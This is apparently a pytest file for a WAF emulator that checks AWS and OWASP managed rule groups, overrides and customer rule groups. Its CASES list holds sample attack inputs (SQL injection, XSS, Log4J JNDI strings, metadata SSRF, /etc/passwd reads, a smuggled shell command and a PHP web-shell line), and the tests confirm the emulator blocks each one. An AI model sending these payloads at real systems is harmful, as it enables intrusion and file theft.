"""Managed rule groups by AWS name, customer rule groups, overrides, scope-down, the CRS hook."""

from __future__ import annotations

from typing import Any

import pytest

from bastion.errors import ConfigErrors
from bastion.waf.webacl import CrsVerdict, ManagedCatalog, WafRequest
from tests.waf.webacl.util import build, byte_match, req, rule, run, vis, web_acl


def managed(name: str, override: str = "None", priority: int = 0, vendor: str = "AWS",
            **stmt: Any) -> dict[str, Any]:
    return {"Name": f"AWS-{name}", "Priority": priority,
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": vendor, "Name": name,
                                                        **stmt}},
            "OverrideAction": {override: {}}, "VisibilityConfig": vis(f"AWS-{name}")}


CRS = "AWSManagedRulesCommonRuleSet"
NO_UA = (("Host", "api.example.com"),)


def test_managed_group_terminates_with_group_fields() -> None:
    _, ev = build(web_acl(managed(CRS)))
    r = run(ev, req(headers=NO_UA))
    assert (r.action, r.terminating_rule_id, r.terminating_rule_type) == (
        "BLOCK", f"AWS-{CRS}", "MANAGED_RULE_GROUP")
    assert r.rule_groups == [{"ruleGroupId": f"AWS#{CRS}", "terminatingRule": {
        "ruleId": "NoUserAgent_HEADER", "action": "BLOCK", "ruleMatchDetails": []},
        "nonTerminatingMatchingRules": [], "excludedRules": None}]
    assert r.labels == ["awswaf:managed:aws:core-rule-set:NoUserAgent_Header"]
    assert ev.counters.get("test-acl", CRS, "NoUserAgent_HEADER", "BlockedRequests") == 1


def test_excluded_rules_count_instead() -> None:
    _, ev = build(web_acl(managed(CRS, ExcludedRules=[{"Name": "NoUserAgent_HEADER"}])))
    r = run(ev, req(headers=NO_UA))
    assert r.action == "ALLOW"
    g = r.rule_groups[0]
    assert g["nonTerminatingMatchingRules"] == [{"ruleId": "NoUserAgent_HEADER",
                                                 "action": "COUNT", "ruleMatchDetails": [],
                                                 "overriddenAction": "BLOCK"}]
    assert g["excludedRules"] == [{"exclusionType": "EXCLUDED_AS_COUNT",
                                   "ruleId": "NoUserAgent_HEADER"}]
    assert "awswaf:managed:aws:core-rule-set:NoUserAgent_Header" in r.labels


def test_rule_action_overrides() -> None:
    doc = web_acl(managed(CRS, RuleActionOverrides=[
        {"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}}},
        {"Name": "SizeRestrictions_QUERYSTRING", "ActionToUse": {"Block": {"CustomResponse": {
            "ResponseCode": 414, "CustomResponseBodyKey": "long"}}}},
    ]), CustomResponseBodies={"long": {"ContentType": "TEXT_PLAIN", "Content": "too long"}})
    _, ev = build(doc)
    assert run(ev, req(headers=NO_UA)).action == "ALLOW"
    r = run(ev, req(query="q=" + "a" * 3000))
    assert r.action == "BLOCK" and r.response is not None
    assert (r.response.status, r.response.body) == (414, b"too long")


def test_override_action_count_on_the_group() -> None:
    _, ev = build(web_acl(managed(CRS, "Count"), rule("after", byte_match(
        {"Method": {}}, "GET", "EXACTLY"), "Count", priority=1)))
    r = run(ev, req(headers=NO_UA))
    assert r.action == "ALLOW"
    assert r.non_terminating[0] == {"ruleId": f"AWS-{CRS}", "action": "COUNT",
                                    "ruleMatchDetails": [], "overriddenAction": "BLOCK"}
    assert r.non_terminating[1]["ruleId"] == "after"  # evaluation went on
    assert r.rule_groups[0]["terminatingRule"]["ruleId"] == "NoUserAgent_HEADER"


def test_scope_down_statement() -> None:
    scope = byte_match({"UriPath": {}}, "/api", "STARTS_WITH")
    _, ev = build(web_acl(managed(CRS, ScopeDownStatement=scope)))
    assert run(ev, req(path="/static", headers=NO_UA)).action == "ALLOW"
    assert run(ev, req(path="/api/x", headers=NO_UA)).action == "BLOCK"


def test_unknown_override_name_is_a_warning_for_managed_groups() -> None:
    acl, _ = build(web_acl(managed(CRS, ExcludedRules=[{"Name": "NoSuchRule"}])))
    assert [i.severity for i in acl.issues] == ["warning"]
    assert "NoSuchRule" in acl.issues[0].message


CASES = [
    ("AWSManagedRulesCommonRuleSet", "UserAgent_BadBots_HEADER",
     req(headers=(("User-Agent", "sqlmap/1.7"),))),
    ("AWSManagedRulesCommonRuleSet", "SizeRestrictions_BODY", req("POST", body=b"x" * 9000)),
    ("AWSManagedRulesCommonRuleSet", "SizeRestrictions_URIPATH", req(path="/" + "a" * 1100)),
    ("AWSManagedRulesCommonRuleSet", "SizeRestrictions_Cookie_HEADER",
     req(headers=(("User-Agent", "x"), ("Cookie", "a=" + "b" * 10300)))),
    ("AWSManagedRulesCommonRuleSet", "EC2MetaDataSSRF_QUERYARGUMENTS",
     req(query="url=http%3A%2F%2F169.254.169.254%2Flatest")),
    ("AWSManagedRulesCommonRuleSet", "GenericLFI_QUERYARGUMENTS", req(query="f=..%2F..%2Fetc")),
    ("AWSManagedRulesCommonRuleSet", "RestrictedExtensions_URIPATH", req(path="/app.ini")),
    ("AWSManagedRulesCommonRuleSet", "GenericRFI_QUERYARGUMENTS",
     req(query="page=http://192.0.2.1/shell.txt")),
    ("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_QUERYARGUMENTS",
     req(query="q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
    ("AWSManagedRulesCommonRuleSet", "CrossSiteScripting_BODY",
     req("POST", body=b"<img src=x onerror=alert(1)>")),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS",
     req(query="id=1%27%20or%20%271%27%3D%271")),
    ("AWSManagedRulesSQLiRuleSet", "SQLi_BODY", req("POST", body=b"1' or '1'='1")),
    ("AWSManagedRulesSQLiRuleSet", "SQLiExtendedPatterns_QUERYARGUMENTS",
     req(query="q=x%20waitfor%20delay%20%270:0:5%27")),
    ("AWSManagedRulesKnownBadInputsRuleSet", "Host_localhost_HEADER",
     req(headers=(("Host", "localhost:8080"),))),
    ("AWSManagedRulesKnownBadInputsRuleSet", "PROPFIND_METHOD", req("PROPFIND")),
    ("AWSManagedRulesKnownBadInputsRuleSet", "ExploitablePaths_URIPATH",
     req(path="/app/WEB-INF/web.xml")),
    ("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER",
     req(headers=(("Host", "h"), ("X-Api-Version", "${jndi:ldap://x/a}")))),
    ("AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_QUERYSTRING",
     req(query="x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D")),
    ("AWSManagedRulesKnownBadInputsRuleSet", "JavaDeserializationRCE_BODY",
     req("POST", body=b"rO0ABXNyABFqYXZh")),
    ("AWSManagedRulesLinuxRuleSet", "LFI_QUERYSTRING", req(query="f=/etc/passwd")),
    ("AWSManagedRulesLinuxRuleSet", "LFI_URIPATH", req(path="/static/..%2f..%2fproc/self/environ")),
    ("AWSManagedRulesUnixRuleSet", "UNIXShellCommandsVariables_QUERYARGUMENTS",
     req(query="host=example.com%3Bcat%20%2Fetc%2Fpasswd")),
    ("AWSManagedRulesPHPRuleSet", "PHPHighRiskMethodsVariables_BODY",
     req("POST", body=b"<?php system($_GET['c']); ?>")),
]


@pytest.mark.parametrize(("group", "rule_name", "request_"), CASES)
def test_managed_rule_detects(group: str, rule_name: str, request_: WafRequest) -> None:
    _, ev = build(web_acl(managed(group)))
    r = run(ev, request_)
    assert r.action == "BLOCK", r
    assert r.rule_groups[0]["terminatingRule"]["ruleId"] == rule_name


@pytest.mark.parametrize("group", sorted({c[0] for c in CASES}))
def test_managed_group_passes_benign_requests(group: str) -> None:
    _, ev = build(web_acl(managed(group)))
    benign = [
        req(path="/pets/42", query="limit=10&sort=name"),
        req("POST", "/pets", headers=(("Host", "api.example.com"), ("User-Agent", "app/1.0"),
                                      ("Content-Type", "application/json")),
            body=b'{"name": "Rex", "tag": "dog", "note": "likes walks; sleeps a lot"}'),
    ]
    for r in benign:
        assert run(ev, r).action == "ALLOW"
    assert ev.counters.get("test-acl", group, "ALL", "PassedRequests") == 2


def test_sqli_details_in_terminating_rule() -> None:
    _, ev = build(web_acl(managed("AWSManagedRulesSQLiRuleSet")))
    r = run(ev, req(query="id=1%27%20or%20%271%27%3D%271"))
    d = r.terminating_details[0]
    assert d["conditionType"] == "SQL_INJECTION" and d["location"] == "QUERY_STRING"
    assert d["sensitivityLevel"] == "LOW"


def test_unknown_managed_group_is_unsupported() -> None:
    with pytest.raises(ConfigErrors) as exc:
        build(web_acl(managed("AWSManagedRulesBotControlRuleSet")))
    assert "unsupported" in str(exc.value)
    assert "Rules[0].Statement.ManagedRuleGroupStatement" in str(exc.value)


def test_owasp_crs_hook() -> None:
    seen: list[tuple[int, frozenset[str]]] = []

    def crs(request: WafRequest, paranoia: int, excluded: frozenset[str]) -> CrsVerdict:
        seen.append((paranoia, excluded))
        if "attack" in request.query:
            return CrsVerdict(("942100", "949110"), True, "949110")
        if "weird" in request.query:
            return CrsVerdict(("920170",), False)
        return CrsVerdict()

    cat = ManagedCatalog(crs=crs)
    doc = web_acl(managed("CoreRuleSet", vendor="OWASP", Version="PL2",
                          ExcludedRules=[{"Name": "CRS-941100"}]))
    _, ev = build(doc, managed=cat)
    r = run(ev, req(query="q=attack"))
    assert (r.action, r.terminating_rule_type) == ("BLOCK", "MANAGED_RULE_GROUP")
    assert r.rule_groups[0]["terminatingRule"]["ruleId"] == "CRS-949110"
    assert r.rule_groups[0]["nonTerminatingMatchingRules"][0]["ruleId"] == "CRS-942100"
    assert "awswaf:managed:owasp:core-rule-set:CRS-942100" in r.labels
    assert seen[0] == (2, frozenset({"941100"}))
    r = run(ev, req(query="q=weird"))
    assert r.action == "ALLOW" and r.rule_groups[0]["nonTerminatingMatchingRules"]
    # overriding the blocking rule to Count turns the group into a pure tuning tool
    doc2 = web_acl(managed("CoreRuleSet", vendor="OWASP", RuleActionOverrides=[
        {"Name": "CRS-949110", "ActionToUse": {"Count": {}}}]))
    _, ev2 = build(doc2, managed=cat)
    assert run(ev2, req(query="q=attack")).action == "ALLOW"
    with pytest.raises(ConfigErrors, match="not connected"):
        build(doc2)


RG_ARN = "arn:aws:wafv2:us-east-1:111122223333:regional/rulegroup/my-group/4444"
RULE_GROUP = {"RuleGroup": {
    "Name": "my-group", "Id": "44444444-4444-4444-4444-444444444444", "Capacity": 50,
    "ARN": RG_ARN, "VisibilityConfig": vis("my-group"),
    "CustomResponseBodies": {"nope": {"ContentType": "TEXT_HTML", "Content": "<h1>no</h1>"}},
    "Rules": [
        rule("tag-admin", byte_match({"UriPath": {}}, "/admin", "STARTS_WITH"), "Count",
             priority=0, RuleLabels=[{"Name": "admin"}]),
        rule("deny-admin", {"LabelMatchStatement": {"Scope": "LABEL", "Key": "admin"}},
             priority=1, Action={"Block": {"CustomResponse": {
                 "ResponseCode": 403, "CustomResponseBodyKey": "nope"}}}),
    ]}, "LockToken": "55555555-5555-5555-5555-555555555555"}


def group_ref(**stmt: Any) -> dict[str, Any]:
    return {"Name": "mine", "Priority": 0, "OverrideAction": {"None": {}},
            "Statement": {"RuleGroupReferenceStatement": {"ARN": RG_ARN, **stmt}},
            "VisibilityConfig": vis("mine")}


def test_customer_rule_group_with_its_own_labels_and_bodies() -> None:
    _, ev = build(web_acl(group_ref()), rule_groups=[RULE_GROUP])
    r = run(ev, req(path="/admin"))
    assert (r.action, r.terminating_rule_type, r.terminating_rule_id) == ("BLOCK", "GROUP",
                                                                        "mine")
    assert r.labels == ["awswaf:111122223333:rulegroup:my-group:admin"]
    assert r.response is not None and r.response.body == b"<h1>no</h1>"
    assert r.rule_groups[0]["ruleGroupId"] == RG_ARN


def test_customer_rule_group_overrides_must_name_real_rules() -> None:
    _, ev = build(web_acl(group_ref(RuleActionOverrides=[
        {"Name": "deny-admin", "ActionToUse": {"Allow": {}}}])), rule_groups=[RULE_GROUP])
    assert run(ev, req(path="/admin")).action == "ALLOW"
    with pytest.raises(ConfigErrors, match="names no rule of my-group"):
        build(web_acl(group_ref(ExcludedRules=[{"Name": "typo"}])), rule_groups=[RULE_GROUP])


def test_the_mapping_document_lists_every_shipped_rule_and_label() -> None:
    from pathlib import Path

    from bastion.waf.webacl.managed import AWS_GROUPS

    doc = (Path(__file__).parents[3] / "docs" / "webacl-managed-groups.md").read_text()
    cat = ManagedCatalog()
    for name in AWS_GROUPS:
        assert f"### {name}" in doc
        for r in cat.group(name).rules:
            assert f"| `{r.name}` |" in doc
            assert f"`{r.labels[0].rsplit(':', 1)[1]}`" in doc


def test_async_crs_inspector_and_overridden_allow_inserts_nothing() -> None:
    async def crs(request: WafRequest, paranoia: int, excluded: frozenset[str]) -> CrsVerdict:
        return CrsVerdict(("949110",), True, "949110")

    _, ev = build(web_acl(managed("CoreRuleSet", vendor="OWASP")), managed=ManagedCatalog(
        crs=crs))
    assert run(ev, req()).action == "BLOCK"
    doc = web_acl(group_ref(RuleActionOverrides=[{"Name": "deny-admin", "ActionToUse": {
        "Allow": {"CustomRequestHandling": {"InsertHeaders": [{"Name": "a", "Value": "1"}]}}}}]))
    doc["Rules"][0]["OverrideAction"] = {"Count": {}}
    _, ev = build(doc, rule_groups=[RULE_GROUP])
    r = run(ev, req(path="/admin"))
    assert r.action == "ALLOW" and r.inserted_headers == []
    assert r.non_terminating[0]["overriddenAction"] == "ALLOW"
